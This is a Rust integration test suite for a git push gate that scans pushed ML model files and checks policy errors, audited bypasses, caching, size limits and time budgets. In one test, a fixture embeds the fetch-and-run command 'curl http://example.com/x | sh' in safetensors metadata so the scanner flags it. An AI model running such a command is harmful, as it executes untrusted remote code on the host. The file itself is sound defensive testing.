//! The push gate with its policy, through real pushes: hooks written by `modelgate install`,
//! notes, policy lookup and failures, the bypass option, concurrent pushes, format rules,
//! the size limit and the time and byte budgets.

mod git_support;
use git_support::*;
use std::path::Path;

/// A server with the hooks `modelgate install` writes (plain git flavor).
fn gated(policy: Option<&Path>) -> Env {
    let e = Env::new();
    e.remove_hook("pre-receive");
    e.install_gate(policy, &[]);
    e
}

#[test]
fn suspicious_is_accepted_and_visible_in_notes() {
    let e = gated(None);
    e.write("models/w.safetensors", &safetensors(Some(("note", "curl http://example.com/x | sh"))));
    e.write("models/custom.pkl", SUSPICIOUS_PICKLE);
    e.write("README.md", b"readme\n");
    let c = e.commit("suspicious metadata");
    let out = assert_accepted(e.push(&["main"]));
    assert!(out.contains("warning: models/w.safetensors") && out.contains("safetensors-metadata-suspicious"), "{out}");
    assert!(out.contains("warning: models/custom.pkl") && out.contains("pickle-import-unknown"), "{out}");

    let log = e.b(&["log", "--notes=modelgate", "-1", "--format=%H%n%N", "main"]);
    assert!(log.starts_with(&c), "{log}");
    assert!(log.contains("models/w.safetensors: suspicious (safetensors)"), "{log}");
    assert!(log.contains("codes: safetensors-metadata-suspicious"), "{log}");
    assert!(log.contains("models/custom.pkl: suspicious (pickle)"), "{log}");
    assert!(log.contains("imports: __main__.MyModel; codes: pickle-import-unknown"), "{log}");
    assert!(!log.contains("README.md"), "only model files are noted: {log}");
    // The pusher sees it too once the notes are fetched.
    e.w(&["fetch", "-q", "origin", "refs/notes/*:refs/notes/*"]);
    let log = e.w(&["log", "--notes=modelgate", "-1"]);
    assert!(log.contains("Notes (modelgate):") && log.contains("suspicious (safetensors)"), "{log}");
    let audit = e.audit();
    assert!(audit.iter().any(|r| r["event"] == "received" && r["verdict"] == "suspicious"), "{audit:?}");
}

/// What the hook printed (git's own lines name the remote's URL).
fn remote_lines(out: &str) -> String {
    out.lines().filter(|l| l.starts_with("remote:")).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_policy_that_fails_to_load_rejects_the_push() {
    let e = gated(None);
    e.write("a.txt", b"a\n");
    e.commit("plain text");
    // $GIT_DIR/modelgate.toml is found and is broken.
    let repo_policy = e.bare.join("modelgate.toml");
    std::fs::write(&repo_policy, "[actions]\nsafe = \"maybe\"\n").unwrap();
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("policy cannot be loaded"), "{out}");
    // The problem is named by file name, line, column and key; the server path is not shown.
    assert!(out.contains("modelgate.toml:2:8: `actions.safe`: unknown action `maybe`"), "{out}");
    assert!(!remote_lines(&out).contains(&e.bare.display().to_string()), "{out}");
    assert_eq!(e.server_ref("refs/heads/main"), None);
    // The admin finds the whole message in the audit log.
    let audit = e.audit();
    let err = audit.iter().find(|r| r["event"] == "policy-error").expect("logged");
    assert!(err["error"].as_str().unwrap().contains(&repo_policy.display().to_string()), "{audit:?}");

    // A pusher's $MODELGATE_POLICY is not believed unless the environment is trusted.
    let good = e.policy("good.toml", "");
    let out = assert_rejected(e.push_env(&["main"], &[("MODELGATE_POLICY", good.to_str().unwrap())]));
    assert!(out.contains("policy cannot be loaded"), "{out}");
    std::fs::write(&repo_policy, "[actions]\nunsupported = \"reject\"\n").unwrap();
    let out = assert_rejected(e.push_env(&["main"], &[("MODELGATE_POLICY", good.to_str().unwrap())]));
    assert!(out.contains("MODELGATE_POLICY is ignored") && out.contains("a.txt"), "{out}");

    // Trusted, $MODELGATE_POLICY comes first, and a file it names must exist.
    std::fs::write(&repo_policy, "[gate]\ntrust_env = \"http\"\n[actions]\nunsupported = \"reject\"\n").unwrap();
    let missing = e.dir.path().join("nowhere.toml");
    let out = assert_rejected(e.push_env(&["main"], &[("MODELGATE_POLICY", missing.to_str().unwrap())]));
    assert!(out.contains("cannot read the policy file (nowhere.toml): it does not exist"), "{out}");
    assert!(!remote_lines(&out).contains(&e.dir.path().display().to_string()), "{out}");
    assert_accepted(e.push_env(&["main"], &[("MODELGATE_POLICY", good.to_str().unwrap())]));

    // --policy (written by install) comes before both.
    std::fs::write(&repo_policy, "").unwrap();
    let p = e.policy("flag.toml", "");
    e.install_gate(Some(&p), &[]);
    std::fs::write(&p, "[gate]\npush_timeout = 5\n").unwrap();
    e.write("b.txt", b"b\n");
    e.commit("more");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("flag.toml:2:16: `gate.push_timeout`"), "{out}");
}

#[test]
fn bypass_only_for_listed_pushers_and_always_logged() {
    let p = "[gate]\ntrust_env = \"gitea\"\n[bypass]\npushers = [\"alice\"]\nreason = \"release managers\"\n";
    let e = gated(None);
    std::fs::write(e.bare.join("modelgate.toml"), p).unwrap();
    e.b(&["config", "receive.advertisePushOptions", "true"]);
    e.write("m/bad.model", BAD);
    e.commit("bad");
    let skip = ["-o", "modelgate.skip=hotfix for the demo", "main"];

    // Not listed: refused, and the push is checked as usual.
    let out = assert_rejected(e.push_env(&skip, &[("GITEA_PUSHER_NAME", "bob")]));
    assert!(out.contains("bypass refused: bob is not allowed to bypass the gate"), "{out}");
    // No pusher identity at all: refused.
    let out = assert_rejected(e.push(&skip));
    assert!(out.contains("bypass refused: the pusher is unknown"), "{out}");
    // Listed, but no reason: refused.
    let out = assert_rejected(e.push_env(&["-o", "modelgate.skip", "main"], &[("GITEA_PUSHER_NAME", "alice")]));
    assert!(out.contains("bypass refused: give a reason"), "{out}");

    // Listed with a reason: accepted, loudly.
    let out = assert_accepted(e.push_env(&skip, &[("GITEA_PUSHER_NAME", "alice")]));
    assert!(out.contains("BYPASS by alice: 1 file(s) the policy rejects were accepted (hotfix for the demo)"), "{out}");
    assert!(out.contains("m/bad.model") && out.contains(BAD_CODE), "{out}");
    let audit = e.audit();
    let events: Vec<&str> = audit.iter().map(|r| r["event"].as_str().unwrap()).collect();
    assert_eq!(
        events.iter().filter(|e| **e == "bypass-refused").count(),
        3,
        "every refused request is logged: {events:?}"
    );
    let honoured = audit.iter().find(|r| r["event"] == "bypass").unwrap();
    assert_eq!(honoured["pusher"], "alice");
    assert_eq!(honoured["reason"], "hotfix for the demo");
    assert_eq!(honoured["refs"][0], "refs/heads/main");
    let bypassed = audit.iter().find(|r| r["event"] == "bypassed").unwrap();
    assert_eq!(bypassed["path"], "m/bad.model");
    assert_eq!(bypassed["pusher"], "alice");

    // An untrusted environment names no pusher, whatever it sets.
    std::fs::write(e.bare.join("modelgate.toml"), p.replace("trust_env = \"gitea\"", "trust_env = \"none\"")).unwrap();
    e.write("m/bad1.model", &[BAD, b"1"].concat());
    e.commit("bad once more");
    let out = assert_rejected(e.push_env(&skip, &[("GITEA_PUSHER_NAME", "alice")]));
    assert!(out.contains("bypass refused: the pusher is unknown"), "{out}");

    // With `pusher_env`, only that variable names the pusher.
    std::fs::write(e.bare.join("modelgate.toml"), format!("{p}pusher_env = \"REMOTE_USER\"\n")).unwrap();
    e.write("m/bad2.model", &[BAD, b"2"].concat());
    e.commit("bad again");
    let out = assert_rejected(e.push_env(&skip, &[("GITEA_PUSHER_NAME", "alice")]));
    assert!(out.contains("bypass refused: the pusher is unknown"), "{out}");
    assert_accepted(e.push_env(&skip, &[("REMOTE_USER", "alice"), ("GITEA_PUSHER_NAME", "mallory")]));
}

#[test]
fn concurrent_pushes_share_the_cache_safely() {
    let e = gated(None);
    e.write("base.txt", b"base\n");
    e.commit("base");
    assert_accepted(e.push(&["main"]));
    let second = e.dir.path().join("work2");
    e.run(e.dir.path(), &["clone", "-q", &format!("file://{}", e.bare.display()), "work2"]);
    for round in 0..4 {
        // Both pushes carry the same model (same cache key) and one of their own.
        let shared = safetensors(Some(("round", &round.to_string())));
        for (dir, branch) in [(&e.work, "a"), (&second, "b")] {
            e.run(dir, &["checkout", "-q", "-B", &format!("{branch}{round}"), "origin/main"]);
            std::fs::write(dir.join("shared.safetensors"), &shared).unwrap();
            std::fs::write(dir.join(format!("{branch}.safetensors")), safetensors(Some((branch, &round.to_string()))))
                .unwrap();
            e.run(dir, &["add", "-A"]);
            e.run(dir, &["commit", "-q", "-m", &format!("{branch} {round}")]);
        }
        let barrier = std::sync::Barrier::new(2);
        let results: Vec<(bool, String)> = std::thread::scope(|s| {
            let pushes: Vec<_> = [(&e.work, "a"), (&second, "b")]
                .into_iter()
                .map(|(dir, branch)| {
                    let barrier = &barrier;
                    let e = &e;
                    s.spawn(move || {
                        barrier.wait();
                        let o = e.git(dir).args(["push", "origin", &format!("{branch}{round}")]).output().unwrap();
                        (o.status.success(), format!("{}{}", show(&o.stdout), show(&o.stderr)))
                    })
                })
                .collect();
            pushes.into_iter().map(|h| h.join().unwrap()).collect()
        });
        for r in results {
            assert_accepted(r);
        }
    }
    // Every cache entry is whole JSON.
    let mut entries = 0;
    for f in walk(&e.bare.join("modelgate/cache")) {
        if f.extension().is_some_and(|x| x == "json") {
            let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
            // A verdict, or the verdicts of a blob's checkout variants.
            assert!(v["judged"]["verdict"].is_string() || v["judged"]["variants"].is_array(), "{v}");
            entries += 1;
        } else {
            panic!("stray file in the cache: {}", f.display());
        }
    }
    assert!(entries >= 4 * 3, "{entries} cache entries");
    // Pushing the same content again is answered from the cache.
    e.run(&second, &["fetch", "-q", "origin"]);
    e.run(&second, &["checkout", "-q", "-B", "again", "origin/a3"]);
    let out = assert_accepted(
        e.git(&second)
            .args(["push", "origin", "again"])
            .output()
            .map(|o| (o.status.success(), format!("{}{}", show(&o.stdout), show(&o.stderr))))
            .unwrap(),
    );
    assert!(!out.contains("checked"), "nothing new: {out}");
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[test]
fn format_rules_go_by_content_not_name() {
    let p = r#"
[[rule]]
repos = ["**/server.git"]
not_formats = ["safetensors", "gguf", "onnx", "json"]
action = "reject"
reason = "this mirror serves only safetensors, gguf and onnx"
"#;
    let e = gated(None);
    std::fs::write(e.bare.join("modelgate.toml"), p).unwrap();
    // A benign pickle dressed up as safetensors.
    e.write("model.safetensors", GOOD_PICKLE);
    let c = e.commit("pickle in disguise");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("model.safetensors") && out.contains(short(&c)), "{out}");
    assert!(out.contains("SAFE (pickle)"), "{out}");
    assert!(out.contains("decided by policy rule[0] (line 2): this mirror serves only safetensors"), "{out}");

    // Real safetensors under any name, and text, pass.
    e.w(&["rm", "-q", "model.safetensors"]);
    e.write("weights.bin", &safetensors(None));
    e.write("README.md", b"# model\n");
    e.w(&["add", "-A"]);
    e.w(&["commit", "-q", "--amend", "-m", "real safetensors"]);
    assert_accepted(e.push(&["main"]));

    // The rule is scoped to its repositories.
    std::fs::write(e.bare.join("modelgate.toml"), p.replace("**/server.git", "**/other.git")).unwrap();
    e.write("model.safetensors", GOOD_PICKLE);
    e.commit("pickle elsewhere");
    assert_accepted(e.push(&["main"]));
}

#[test]
fn files_over_the_size_limit_are_rejected_unscanned() {
    let e = gated(None);
    std::fs::write(
        e.bare.join("modelgate.toml"),
        r#"
[gate]
max_file_size = 1000

[[ignore]]
code = "file-too-large"
paths = ["docs/**"]
reason = "documentation may be big"
"#,
    )
    .unwrap();
    e.write("small.bin", &[1; 1000]);
    e.write("big.bin", &[1; 1001]);
    e.commit("sizes");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("big.bin") && out.contains("file-too-large"), "{out}");
    assert!(out.contains("1001 bytes is more than the policy's max_file_size of 1000 bytes"), "{out}");
    assert!(!out.contains("small.bin"), "{out}");
    std::fs::remove_file(e.work.join("big.bin")).unwrap();
    e.write("docs/big.bin", &[1; 5000]);
    e.w(&["add", "-A"]);
    e.w(&["commit", "-q", "--amend", "-m", "big docs"]);
    assert_accepted(e.push(&["main"]));
    // An LFS pointer is measured by its object's size; the object need not be there.
    e.write("w.safetensors", &pointer(&[0; 4096]));
    e.commit("big lfs");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("w.safetensors") && out.contains("4096 bytes is more"), "{out}");
    assert!(!out.contains("lfs-object-missing"), "{out}");
}

#[test]
fn time_and_byte_budgets_follow_on_error() {
    let e = gated(None);
    // A big blob takes more than a millisecond to read.
    let big: Vec<u8> = (0..32u32 << 20).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    e.write("big.dat", &big);
    e.commit("big");
    let policy = |extra: &str| std::fs::write(e.bare.join("modelgate.toml"), format!("[gate]\n{extra}\n")).unwrap();

    policy("file_timeout = \"1ms\"");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("big.dat") && out.contains("gate-file-timeout"), "{out}");
    assert!(out.contains("within the file time budget of 1ms"), "{out}");
    assert!(out.contains("on_error = reject"), "{out}");

    policy("push_timeout = \"1ms\"");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("gate-push-budget-exceeded") && out.contains("time budget of 1ms"), "{out}");

    policy("max_push_read_bytes = 100");
    let out = assert_rejected(e.push(&["main"]));
    assert!(out.contains("gate-push-budget-exceeded") && out.contains("byte budget"), "{out}");

    // on_error = "allow": accepted, and the pusher is told.
    policy("file_timeout = \"1ms\"\non_error = \"tag\"");
    let out = assert_accepted(e.push(&["main"]));
    assert!(out.contains("warning: big.dat") && out.contains("gate-file-timeout"), "{out}");
    policy("");
    assert_accepted(e.push(&["main"]));
}

#[test]
fn on_error_decides_when_the_gate_itself_fails() {
    let e = gated(None);
    e.write("a.txt", b"a\n");
    e.commit("a");
    // The gate needs a temporary directory outside the repository; without one it fails.
    let broken = [("TMPDIR", "/nonexistent/modelgate-tmp")];
    let out = assert_rejected(e.push_env(&["main"], &broken));
    assert!(out.contains("cannot create a temporary directory"), "{out}");
    assert!(out.contains("the push gate failed, so nothing was accepted"), "{out}");

    std::fs::write(e.bare.join("modelgate.toml"), "[gate]\non_error = \"allow\"\n").unwrap();
    let out = assert_accepted(e.push_env(&["main"], &broken));
    assert!(out.contains("warning: the push gate failed: cannot create a temporary directory"), "{out}");
    assert!(out.contains("push accepted WITHOUT a model scan (policy on_error = allow)"), "{out}");
    let failed = e.audit().into_iter().find(|a| a["event"] == "gate-failed").expect("logged");
    assert_eq!(failed["on_error"], "allow");
}

#[test]
fn the_shell_shims_in_hooks_run_the_binary() {
    let e = Env::new();
    let shim = Path::new(env!("CARGO_MANIFEST_DIR")).join("hooks");
    for h in ["pre-receive", "post-receive"] {
        std::fs::copy(shim.join(h), e.bare.join("hooks").join(h)).unwrap();
    }
    e.write("w.safetensors", &safetensors(None));
    let c = e.commit("model");
    assert_accepted(e.push_env(&["main"], &[("MODELGATE", BIN)]));
    let log = e.b(&["log", "--notes=modelgate", "-1", "--format=%N", &c]);
    assert!(log.contains("w.safetensors: safe (safetensors)"), "{log}");
    e.write("bad.model", BAD);
    e.commit("bad");
    assert_rejected(e.push_env(&["main"], &[("MODELGATE", BIN)]));
}
